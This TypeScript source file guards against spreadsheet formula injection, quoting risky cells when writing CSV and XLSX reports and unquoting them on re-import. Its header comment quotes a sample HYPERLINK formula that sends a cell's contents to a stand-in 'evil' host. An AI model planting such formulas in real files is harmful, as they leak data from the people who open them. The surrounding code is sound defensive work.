// Cells Ruta writes into files a spreadsheet will open (CSV, XLSX), and reads back from them.
//
// A cell that begins with = + - @ tab or carriage return is a formula to Excel, LibreOffice and
// Google Sheets (`=HYPERLINK("http://evil/?"&A1, "Fix")`, DDE payloads): text a merchant (or
// whoever filled their spreadsheet) uploaded must never come back as one (issue #18, defect 10).
// As OWASP's CSV-injection guidance says, such a cell is written with a leading single quote,
// which every spreadsheet shows as text. A plain number (`-12.05`, `+51987654321`) is left as it
// is: a spreadsheet reads it as a number, never a formula, and coordinates, amounts and E.164
// phone numbers stay readable and import again unchanged.

const TRIGGER = /^[=+\-@\t\r]/;
/** A decimal number, signed or not, with a dot or a comma: what a spreadsheet reads as a number. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)$/;

/** The cell as text a spreadsheet will not evaluate: `'` before a formula's first character. */
export function neutraliseFormula(value: string): string {
  return TRIGGER.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/**
 * Undoes `neutraliseFormula` on a cell read from an uploaded file: a `'` before = + - @ tab or
 * carriage return is that marker (Ruta's, or any tool's that follows OWASP, or Excel's own text
 * prefix) and not part of the value, so a failed_rows.csv fixed and uploaded again imports the
 * cells as first written.
 */
export function unmarkFormula(value: string): string {
  return value.charCodeAt(0) === 0x27 && TRIGGER.test(value.slice(1, 2)) ? value.slice(1) : value;
}

/**
 * RFC 4180 CSV (quotes where needed, CRLF), every cell neutralised: the one way Ruta writes CSV.
 * `delimiter`: `;` for a file that goes back to where `;` is the list separator (failed_rows.csv of
 * a `;` upload). A cell holding either separator is quoted, whichever one the file uses, so no cell
 * of the header row can make a reader guess the other.
 */
export function toCsv(rows: string[][], delimiter: ',' | ';' = ','): string {
  const cell = (raw: string) => {
    const v = neutraliseFormula(raw);
    return /[",\r\n;]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
  };
  return `${rows.map((r) => r.map(cell).join(delimiter)).join('\r\n')}\r\n`;
}

/** A cell of a report Ruta writes: numbers stay numbers, text is neutralised like every CSV cell. */
export type ReportCell = string | number | null;

/** The same table as CSV (with a BOM, so Excel reads UTF-8), numbers as plain decimals. */
export function reportCsv(rows: ReportCell[][]): string {
  return `\uFEFF${toCsv(rows.map((r) => r.map((c) => (c === null ? '' : String(c)))))}`;
}

/** The same table as an .xlsx workbook: the header row bold, numbers as number cells. */
export async function reportXlsx(rows: ReportCell[][]): Promise<Buffer> {
  const { default: writeXlsxFile } = await import('write-excel-file/node');
  const [head = [], ...body] = rows;
  const sheet = [
    head.map((c) => ({ value: String(c ?? ''), fontWeight: 'bold' as const })),
    ...body.map((r) =>
      r.map((c) =>
        c === null
          ? null
          : typeof c === 'number'
            ? { type: Number, value: c }
            : { type: String, value: neutraliseFormula(c) },
      ),
    ),
  ];
  return writeXlsxFile(sheet).toBuffer();
}
